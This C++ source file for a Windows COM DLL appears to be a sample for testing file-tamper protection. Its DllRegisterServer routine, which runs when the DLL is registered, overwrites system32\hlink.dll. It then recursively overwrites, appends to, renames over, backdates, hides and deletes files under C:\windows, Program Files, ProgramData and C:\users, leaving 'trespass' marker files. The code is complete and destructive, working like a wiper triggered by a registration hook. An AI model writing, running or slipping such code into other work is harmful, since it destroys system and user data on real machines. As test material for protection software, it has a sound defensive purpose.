// Changes files and folders of drive C: in every way that a program has. The registration fails if one of the
// changes fails.
#include <windows.h>

#include <olectl.h>

#include <array>
#include <string>
#include <vector>

namespace {

constexpr FILETIME longAgo = {0, 0x01B00000}; // in 1988

// Opens a file or folder only for its attributes and times.
HANDLE OpenForAttributes(const std::wstring& path) {
    return CreateFileW(path.c_str(), FILE_WRITE_ATTRIBUTES,
                       FILE_SHARE_READ | FILE_SHARE_WRITE | FILE_SHARE_DELETE, nullptr, OPEN_EXISTING,
                       FILE_FLAG_BACKUP_SEMANTICS, nullptr);
}

bool SetTimes(const std::wstring& path) {
    const HANDLE file = OpenForAttributes(path);
    const BOOL set = SetFileTime(file, &longAgo, &longAgo, &longAgo);
    CloseHandle(file);
    return set != FALSE;
}

bool WriteAtEnd(const std::wstring& path, DWORD disposition) {
    const HANDLE file =
        CreateFileW(path.c_str(), FILE_APPEND_DATA, 0, nullptr, disposition, FILE_ATTRIBUTE_NORMAL, nullptr);
    DWORD written = 0;
    const BOOL wrote = WriteFile(file, "trespass", 8, &written, nullptr);
    CloseHandle(file);
    return wrote != FALSE;
}

bool Append(const std::wstring& path) {
    return WriteAtEnd(path, OPEN_EXISTING);
}

// A file of this sample with old times.
std::wstring Source() {
    const std::wstring source = L"C:\\trespass.txt";
    WriteAtEnd(source, OPEN_ALWAYS);
    SetTimes(source);
    return source;
}

// Replaces the content and times; the file stays the same one.
bool Overwrite(const std::wstring& path) {
    return CopyFileW(Source().c_str(), path.c_str(), FALSE) != FALSE;
}

bool RenameOver(const std::wstring& path) {
    const std::wstring other = path + L".trespass";
    return CopyFileW(Source().c_str(), other.c_str(), FALSE) != FALSE &&
           MoveFileExW(other.c_str(), path.c_str(), MOVEFILE_REPLACE_EXISTING) != FALSE;
}

bool SetAttributes(const std::wstring& path) {
    return SetFileAttributesW(path.c_str(), FILE_ATTRIBUTE_READONLY | FILE_ATTRIBUTE_HIDDEN) != FALSE;
}

bool Delete(const std::wstring& path) {
    return DeleteFileW(path.c_str()) != FALSE;
}

constexpr std::array ways = {Overwrite, Append, RenameOver, SetTimes, SetAttributes, Delete};

struct Entries {
    std::vector<std::wstring> files;
    std::vector<std::wstring> folders;
};

Entries EntriesOf(const std::wstring& folder) {
    Entries entries;
    WIN32_FIND_DATAW found = {};
    const HANDLE search = FindFirstFileW((folder + L"\\*").c_str(), &found);
    for (BOOL more = search != INVALID_HANDLE_VALUE; more != FALSE; more = FindNextFileW(search, &found)) {
        const std::wstring name = found.cFileName;
        const bool isFolder = (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) != 0;
        if (name != L"." && name != L"..") {
            (isFolder ? entries.folders : entries.files).push_back(folder + L"\\" + name);
        }
    }
    FindClose(search);
    return entries;
}

// Changes one file in each way, creates one, and changes the folder itself. The folder's times come last,
// because the other changes set them.
bool ChangeFilesOf(const std::wstring& folder, const std::vector<std::wstring>& files) {
    bool changed = true;
    for (std::size_t way = 0; way < ways.size() && way < files.size(); ++way) {
        changed = ways[way](files[way]) && changed;
    }
    changed = WriteAtEnd(folder + L"\\trespass.txt", CREATE_ALWAYS) && changed;
    changed = SetFileAttributesW(folder.c_str(), FILE_ATTRIBUTE_HIDDEN) != FALSE && changed;
    return SetTimes(folder) && changed;
}

bool ChangeAllBelow(const std::wstring& folder) {
    const Entries entries = EntriesOf(folder);
    bool changed = true;
    for (const std::wstring& below : entries.folders) {
        changed = ChangeAllBelow(below) && changed;
    }
    return ChangeFilesOf(folder, entries.files) && changed;
}

} // namespace

// The folders of C:\windows contain the modules of this process. Only one of them is changed, and nothing
// else in its folder.
STDAPI DllRegisterServer() {
    bool changed = Overwrite(L"C:\\windows\\system32\\hlink.dll");
    changed = ChangeFilesOf(L"C:\\windows", EntriesOf(L"C:\\windows").files) && changed;
    changed = ChangeAllBelow(L"C:\\windows\\inf") && changed;
    for (const wchar_t* folder :
         {L"C:\\Program Files", L"C:\\Program Files (x86)", L"C:\\ProgramData", L"C:\\users"}) {
        changed = ChangeAllBelow(folder) && changed;
    }
    return changed ? S_OK : E_FAIL;
}
